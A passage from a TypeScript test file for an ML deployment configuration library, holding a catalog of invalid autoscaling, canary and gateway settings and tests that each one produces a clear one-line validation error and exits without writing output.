    prop: 'autoscaling.metrics[0].name',
    got: '"vllm/num_requests_waiting"',
    build: svc({ autoscaling: { maxReplicas: 4, metrics: [Metric.pods('vllm/num_requests_waiting', { averageValue: 5 })] } }),
  },
  'Autoscaling Pods metric with a Utilization target': {
    where: "InferenceService 'cat/api'",
    prop: 'autoscaling.metrics[0].averageUtilization',
    got: '50',
    build: svc({ autoscaling: { maxReplicas: 4, metrics: [Metric.pods('rps', { averageUtilization: 50 } as any)] } }),
  },
  'Autoscaling target quantity': {
    where: "InferenceService 'cat/api'",
    prop: 'autoscaling.metrics[0].averageValue',
    got: '"5 rps"',
    build: svc({ autoscaling: { maxReplicas: 4, metrics: [Metric.pods('rps', { averageValue: '5 rps' })] } }),
  },
  'Autoscaling external selector': {
    where: "InferenceService 'cat/api'",
    prop: 'autoscaling.metrics[0].selector',
    got: '"queue name"',
    build: svc({ autoscaling: { maxReplicas: 4, metrics: [Metric.external('q', { selector: { 'queue name': 'jobs' }, averageValue: 30 })] } }),
  },
  'Autoscaling scale-down window': {
    where: "InferenceService 'cat/api'",
    prop: 'autoscaling.behavior.scaleDown.stabilizationWindowSeconds',
    got: '7200',
    build: svc({ autoscaling: { maxReplicas: 4, behavior: { scaleDown: { stabilizationWindowSeconds: 7200 } } } }),
  },
  'Autoscaling policy period': {
    where: "TfServingBackend 'cat/server'",
    prop: 'autoscaling.behavior.scaleUp.policies[0].periodSeconds',
    got: '3600',
    build: tf({ autoscaling: { maxReplicas: 4, behavior: { scaleUp: { policies: [{ type: 'Pods', value: 2, periodSeconds: 3600 }] } } } }),
  },
  'Canary weight above 100': {
    where: "InferenceService 'cat/api'",
    prop: 'canary.weight',
    got: '120',
    build: svc({ replicas: 4, canary: { weight: 120, image: 'registry.example.com/api:2.0.0' } }),
  },
  'Canary weight not whole': {
    where: "InferenceService 'cat/api'",
    prop: 'canary.weight',
    got: '12.5',
    build: svc({ replicas: 4, canary: { weight: 12.5, image: 'registry.example.com/api:2.0.0' } }),
  },
  'Canary without change': {
    where: "InferenceService 'cat/api'",
    prop: 'canary',
    got: '{"weight":10}',
    build: svc({ replicas: 4, canary: { weight: 10 } }),
  },
  'Canary ratio not expressible': {
    where: "InferenceService 'cat/api'",
    prop: 'canary.weight',
    got: '10',
    build: svc({ replicas: 4, canary: { weight: 10, image: 'registry.example.com/api:2.0.0' } }),
  },
  'Canary TF release': {
    where: "TfServingBackend 'cat/server'",
    prop: 'canary.version',
    got: '"latest"',
    build: tf({ replicas: 4, canary: { weight: 25, version: 'latest' } }),
  },
  'Gateway hostname': {
    where: "InferenceService 'cat/api'",
    prop: 'exposure.hostnames[0]',
    got: '"10.0.0.1"',
    build: svc({ exposure: Exposure.gateway({ gateway: { name: 'public', namespace: 'gateway' }, hostnames: ['10.0.0.1'] }) }),
  },
};

describe('bad input catalog', () => {
  test('covers at least 100 bad props', () => {
    expect(Object.keys(CASES).length).toBeGreaterThanOrEqual(100);
  });

  test.each(Object.entries(CASES))('%s', (_name, c) => {
    const app = new MlApp({ outdir: tempDir() });
    let message = '';
    try {
      c.build(new MlStack(app, 'cat'));
      app.synthFiles();
    } catch (e) {
      message = (e as Error).message;
    }
    expect(message).toContain(`${c.where}: ${c.prop} `);
    expect(message).toContain(`, got ${c.got}. Fix: `);
    expect(message.split('Fix: ')[1].length).toBeGreaterThan(10);
  });

  test('through MlApp.main every case prints its one-line message, exits 1 and leaves the output directory untouched', () => {
    const outdir = path.join(tempDir(), 'dist');
    MlApp.main((app) => new InferenceService(new MlStack(app, 'good'), 'api', { image: IMG }), [], { outdir });
    const before = fs.readFileSync(path.join(outdir, 'manifests/good.k8s.yaml'), 'utf8');
    const write = process.stderr.write;
    for (const [name, c] of Object.entries(CASES)) {
      let stderr = '';
      process.stderr.write = ((chunk: string) => {
        stderr += chunk;
        return true;
      }) as any;
      process.exitCode = 0;
      try {
        MlApp.main((app) => c.build(new MlStack(app, 'cat')), [], { outdir });
      } finally {
        process.stderr.write = write;
      }
      expect({ name, exitCode: process.exitCode }).toEqual({ name, exitCode: 1 });
      expect(stderr).toContain(`${c.where}: ${c.prop} `);
      expect(stderr).not.toMatch(/^\s+at /m); // no stack trace
      expect(fs.readdirSync(path.join(outdir, 'manifests'))).toEqual(['good.k8s.yaml']);
    }
    process.exitCode = 0;
    expect(fs.readFileSync(path.join(outdir, 'manifests/good.k8s.yaml'), 'utf8')).toBe(before);
  });
});
